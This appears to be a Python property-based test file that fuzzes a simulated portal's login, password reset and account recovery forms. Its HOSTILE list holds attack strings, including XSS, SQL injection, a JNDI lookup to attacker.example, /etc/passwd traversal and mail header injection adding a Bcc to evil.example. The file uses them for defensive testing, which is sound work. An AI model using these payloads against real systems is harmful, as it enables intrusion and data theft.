"""The forms under bad input: every field of the login, Forgot User Name?, Reset
Password? and Change Password forms, fuzzed through the driver interface.

Whatever is typed (empty, blanks, look-alikes of real values, control characters and
lone surrogates, 10,000 characters, HTML and SQL, header injections), the portal
answers with a screen, never an exception; it signs in only with the right pair;
it never echoes what was typed; a refused submission changes no account (the
directory is compared before and after) and sends no mail; an accepted one changes
only what the flows say, and mails only the address on file.

Each example is a fresh portal with the harness's low hash cost; the example counts
keep the file well under a minute.
"""

from __future__ import annotations

import string
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from simulator.drivers.in_process import InProcessTarget
from simulator.drivers.protocol import (
    choose_state,
    log_in,
    submit_forgot_user_name,
    submit_reset_password,
    update_password,
)
from simulator.mail.mailbox import normalize_address
from simulator.portal.forms import normalize_identifier
from simulator.portal.portal import Portal
from simulator.portal.screens import Screen
from specs import FlowSet, load_flows

FLOW_SET: FlowSet = load_flows()
TEXTS = FLOW_SET.portal.texts
MESSAGES = {t.text for t in TEXTS.values()}

PRODUCERS = [  # user name, Agent Unique ID, email, password, state
    ("jessicacamp", "000600492", "jessica@example.com", "Secret77", "IL"),
    ("jcamp2", "000600493", "jessica@example.com", "Other123", "TX"),  # shares the address
    ("omarlee", "000700111", "omar.lee@example.org", "Omar2024", "OK"),
]
PASSWORDS = {user: password for user, _, _, password, _ in PRODUCERS}
REAL = [value for producer in PRODUCERS for value in producer[:4]]

HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' OR '1'='1",
    "'; DROP TABLE accounts; --",
    "jessicacamp'--",
    "%s%s%s%n",
    "{user_names}",
    "{temporary_password}",
    "${jndi:ldap://attacker.example/a}",
    "../../../etc/passwd",
    "jessica@example.com\r\nBcc: thief@evil.example",
    "jessica@example.com, thief@evil.example",
    "thief@evil.example <jessica@example.com>",
    "jessica@example.com\nX-RPP-Kind: password_reset",
]
ECHO_CHECKED = [h for h in HOSTILE if len(h) >= 12]

LOOK_ALIKE = {
    "a": "а", "e": "е", "o": "о", "p": "р", "c": "с", "x": "х", "i": "і", "j": "ј",
    "s": "ѕ", "l": "ӏ", "@": "＠", ".": "．", "0": "０", "1": "１", "2": "٢", "4": "٤",
    "7": "７", "9": "９",
}  # fmt: skip
INVISIBLE = ["\u200b", "\u200d", "\ufeff", "\u00ad", "\u2060"]


def _look_alike(value: str, where: list[int], how: str) -> str:
    if how == "upper":
        return value.upper()
    if how == "swapcase":
        return value.swapcase()
    if how == "padded":
        return f"\u3000{value}\u00a0"
    chars = list(value)
    for i in where:
        i %= len(chars)
        if how == "homoglyph":
            chars[i] = LOOK_ALIKE.get(chars[i], chars[i])
        else:  # an invisible character slipped in
            chars[i] = chars[i] + INVISIBLE[i % len(INVISIBLE)]
    return "".join(chars)


look_alikes = st.builds(
    _look_alike,
    st.sampled_from(REAL),
    st.lists(st.integers(0, 40), min_size=1, max_size=3),
    st.sampled_from(["homoglyph", "invisible", "upper", "swapcase", "padded"]),
)
blanks = st.text(alphabet=" \t\n\r\x0b\x0c\u00a0\u2003\u200b\u3000\ufeff", max_size=12)
controls = st.text(
    alphabet=st.characters(categories=["Cc", "Cf", "Cs"]), min_size=1, max_size=12
)  # Cs: lone surrogates, which no encoder takes without surrogatepass
ten_thousand = st.builds(lambda c: c * 10_000, st.characters())
FIELD = st.one_of(
    st.just(""),
    blanks,
    st.sampled_from(REAL),
    look_alikes,
    controls,
    ten_thousand,
    st.sampled_from(HOSTILE),
    st.text(max_size=40),
)

producers = st.sampled_from(PRODUCERS)
policy_valid = st.text(alphabet=string.ascii_letters + string.digits, min_size=6, max_size=9)


def own_or(value: str) -> st.SearchStrategy[str]:
    """The producer's own value half the time, so that accepted submissions are common."""
    return st.booleans().flatmap(lambda own: st.just(value) if own else FIELD)


FUZZ = settings(
    max_examples=250,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


def _target() -> InProcessTarget:
    target = InProcessTarget(FLOW_SET)
    for user, auid, email, password, state in PRODUCERS:
        target.portal.register(user, auid, email, password, state)
    return target


def directory(portal: Portal) -> dict[str, dict[str, Any]]:
    """Everything an account holds, by user name: compared before and after."""
    return {
        a.user_name: {
            "password": (a.password.salt, a.password.digest),
            "temporary": None if a.temporary is None else (a.temporary.salt, a.temporary.digest),
            "temporary_issued_at": a.temporary_issued_at,
            "failed_attempts": a.failed_attempts,
            "state": a.state,
            "locked_at": a.locked_at,
            "locked_for": list(a.locked_for),
            "email": a.email,
            "agent_unique_id": a.agent_unique_id,
        }
        for a in portal.accounts()
    }


def _changes(
    before: dict[str, dict[str, Any]], after: dict[str, dict[str, Any]]
) -> dict[str, set[str]]:
    return {
        user: {k for k in before[user] if before[user][k] != after[user][k]}
        for user in before
        if before[user] != after[user]
    }


def _answered(screen: object, driver_screen: Screen, typed: list[str]) -> Screen:
    """A screen of portal.yaml, with only portal texts as messages, echoing nothing typed."""
    assert isinstance(screen, Screen), screen
    assert screen == driver_screen
    assert screen.name in FLOW_SET.portal.screens
    assert set(screen.messages) <= MESSAGES, screen.describe()
    shown = screen.describe() + repr(screen.directory)
    for value in typed:
        for hostile in ECHO_CHECKED:
            if hostile in value:
                assert hostile not in shown, f"the screen echoes {hostile!r}:\n{shown}"
    return screen


def _new_mail_goes_to_addresses_on_file(target: InProcessTarget, seen: int) -> list[str]:
    on_file = {normalize_address(email) for _, _, email, _, _ in PRODUCERS}
    new = target.mailbox.filed()[seen:]
    for entry in new:
        assert entry.address in on_file, target.mailbox.describe()
        assert str(entry.message["To"]) in {email for _, _, email, _, _ in PRODUCERS}
        assert entry.message["Cc"] is None and entry.message["Bcc"] is None
    return [entry.address for entry in new]


@FUZZ
@given(producers, st.data())
def test_login_form_under_any_input(producer: tuple[str, ...], data: st.DataObject) -> None:
    user_name = data.draw(own_or(producer[0]), "User Name")
    password = data.draw(own_or(producer[3]), "Password")
    target = _target()
    before = directory(target.portal)
    driver = target.open_browser()
    screen = _answered(log_in(driver, user_name, password), driver.screen(), [user_name, password])
    account = target.portal.account_named(user_name)
    right = account is not None and password == PASSWORDS[account.user_name]
    assert (screen.name == "welcome") == right, (user_name, password, screen.describe())
    changes = _changes(before, directory(target.portal))
    if right:
        assert not changes  # a first success on a fresh account changes nothing
    else:
        assert screen.name == "login_page"
        assert screen.messages == (TEXTS["login_failed"].text,)
        # Only the lockout count of the account named moves; no credential anywhere.
        assert set(changes) <= ({account.user_name} if account else set())
        assert all(fields <= {"failed_attempts"} for fields in changes.values()), changes
    assert len(target.mailbox) == 0


@FUZZ
@given(producers, st.data())
def test_forgot_user_name_form_under_any_input(
    producer: tuple[str, ...], data: st.DataObject
) -> None:
    agent_unique_id = data.draw(own_or(producer[1]), "Agent Unique ID")
    email = data.draw(own_or(producer[2]), "E-mail Address")
    target = _target()
    before = directory(target.portal)
    driver = target.open_browser()
    driver.click("Forgot User Name?")
    screen = _answered(
        submit_forgot_user_name(driver, agent_unique_id, email),
        driver.screen(),
        [agent_unique_id, email],
    )
    assert directory(target.portal) == before  # this form never changes an account
    sent = _new_mail_goes_to_addresses_on_file(target, 0)
    if screen.name == "forgot_user_name":
        assert screen.messages, "a refused form says why"
        assert not sent
        return
    assert screen.name == "username_request_submitted"
    matches = [
        p
        for p in PRODUCERS
        if p[1] == agent_unique_id.strip()
        and normalize_identifier(p[2]) == normalize_identifier(email)
    ]
    assert len(sent) == (1 if matches else 0)


@FUZZ
@given(producers, st.data())
def test_reset_password_form_under_any_input(
    producer: tuple[str, ...], data: st.DataObject
) -> None:
    user_name = data.draw(own_or(producer[0]), "User Name")
    email = data.draw(own_or(producer[2]), "E-mail Address")
    agent_unique_id = data.draw(own_or(producer[1]), "Agent Unique ID")
    target = _target()
    before = directory(target.portal)
    driver = target.open_browser()
    driver.click("Reset Password?")
    screen = _answered(
        submit_reset_password(driver, user_name, email, agent_unique_id),
        driver.screen(),
        [user_name, email, agent_unique_id],
    )
    changes = _changes(before, directory(target.portal))
    sent = _new_mail_goes_to_addresses_on_file(target, 0)
    if screen.name == "reset_password":
        assert screen.messages, "a refused form says why"
        assert not changes and not sent
        return
    assert screen.name == "reset_request_submitted"
    account = target.portal.account_named(user_name)
    matched = (
        account is not None
        and (
            not email.strip() or normalize_identifier(email) == normalize_identifier(account.email)
        )
        and (not agent_unique_id.strip() or agent_unique_id.strip() == account.agent_unique_id)
    )
    if matched:
        assert account is not None
        assert changes == {account.user_name: {"temporary", "temporary_issued_at"}}
        assert sent == [normalize_address(account.email)]
    else:
        assert not changes and not sent


@FUZZ
@given(st.data())
def test_change_password_form_under_any_input(data: st.DataObject) -> None:
    current = data.draw(own_or("Secret77"), "Current Password")
    new = data.draw(st.one_of(own_or("Fresh123"), policy_valid), "New Password")
    confirm = data.draw(own_or(new), "Confirm New Password")
    target = _target()
    driver = target.open_browser()
    assert log_in(driver, "jessicacamp", "Secret77").name == "welcome"
    choose_state(driver, "IL")
    driver.click("Edit Profile")
    before = directory(target.portal)
    screen = _answered(
        update_password(driver, current, new, confirm), driver.screen(), [current, new, confirm]
    )
    changes = _changes(before, directory(target.portal))
    policy = FLOW_SET.portal.parameters.password_policy
    accepted = current == "Secret77" and policy.accepts(new) and new == confirm and new != current
    assert (screen.name == "password_updated") == accepted, (
        current,
        new,
        confirm,
        screen.describe(),
    )
    if accepted:
        assert changes == {"jessicacamp": {"password"}}
        assert log_in(target.open_browser(), "jessicacamp", new).name == "welcome"
    else:
        assert screen.name == "edit_profile" and len(screen.messages) == 1
        # a wrong Current Password counts toward the lock-out (decision
        # wrong-current-password-counts); nothing else changes
        wrong_current = bool(current and new and confirm) and current != "Secret77"
        assert changes == ({"jessicacamp": {"failed_attempts"}} if wrong_current else {})
    assert len(target.mailbox) == 0


@FUZZ
@given(st.lists(st.tuples(own_or("jessicacamp"), own_or("Secret77")), min_size=1, max_size=8))
def test_a_run_of_fuzzed_logins_keeps_the_lockout_rules(attempts: list[tuple[str, str]]) -> None:
    """Over several fuzzed logins on one portal: a failure count moves by one per wrong
    attempt on the account named, locks at the threshold, and nothing else changes."""
    target = _target()
    threshold = FLOW_SET.portal.parameters.lockout_threshold
    for user_name, password in attempts:
        before = directory(target.portal)
        driver = target.open_browser()
        screen = _answered(
            log_in(driver, user_name, password), driver.screen(), [user_name, password]
        )
        after = directory(target.portal)
        account = target.portal.account_named(user_name)
        for user in before:
            if account is None or user != account.user_name:
                assert after[user] == before[user]
        if account is None or screen.name == "welcome":
            continue
        was, now = before[account.user_name], after[account.user_name]
        assert now["password"] == was["password"] and now["temporary"] == was["temporary"]
        if was["state"] == "locked":
            assert now == was and screen.messages == (TEXTS["account_locked"].text,)
        else:
            assert now["failed_attempts"] == was["failed_attempts"] + 1
            assert (now["state"] == "locked") == (now["failed_attempts"] >= threshold)
